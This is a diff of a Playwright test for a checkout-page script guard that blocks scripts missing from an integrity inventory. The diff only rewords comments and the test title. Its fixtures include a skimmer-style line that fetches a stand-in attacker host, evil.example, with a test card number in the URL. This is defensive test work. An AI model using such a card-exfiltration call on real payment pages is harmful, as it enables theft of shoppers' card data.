@@ -1,4 +1,4 @@
-// The page guard in a browser: what the inventory does not list does not run, and the shop hears of it.
+// The page guard in a browser: scripts that the inventory does not list don't run, and the shop is told.
 import { createHash } from 'node:crypto';
 import { readFileSync } from 'node:fs';
 import { createServer } from 'node:http';
@@ -13,7 +13,7 @@ const INTEGRITY = JSON.parse(
   readFileSync(fileURLToPath(import.meta.resolve('@eximpe/card-form/integrity.json')), 'utf8'),
 ) as Record<string, string>;
 
-/** Listed, and it sends away what it can all the same: its maker was broken into before the shop listed it. */
+/** It is listed but still sends away what it can: its vendor was compromised before the shop listed it. */
 const CHAT = `fetch('https://evil.example/${VISA_DEBIT.number}?n=${VISA_DEBIT.number}').catch(() => { window.chat = 'stopped'; });`;
 const SKIMMER = 'window.skimmer = true;';
 const hash = (script: string): string => `sha384-${createHash('sha384').update(script).digest('base64')}`;
@@ -25,7 +25,7 @@ const PAGE = `<!doctype html><html lang="hi"><title>Checkout</title>
   <script>${SKIMMER}</script>
   <eximpe-card-form endpoint="/eximpe" checkout="ORDER-1"></eximpe-card-form>`;
 
-test('a script that is not listed does not run, the form does; the shop is told of each, and never of the card', async ({
+test('unlisted scripts don’t run, the form does, and the shop is told of each script but not of the card', async ({
   page,
   shop,
 }) => {
@@ -70,7 +70,7 @@ test('a script that is not listed does not run, the form does; the shop is told 
   });
 
   await page.goto(`${origin}/checkout?session=of-a-shopper`);
-  // The form is there, in a language that it loaded from beside itself: no part of it is blocked.
+  // The form is there, in a language loaded from the same place: no part of it is blocked.
   await expect(page.getByLabel('कार्ड नंबर')).toBeVisible();
   await expect.poll(() => page.evaluate('window.chat')).toBe('stopped');
   expect(await page.evaluate('window.skimmer')).toBeUndefined();
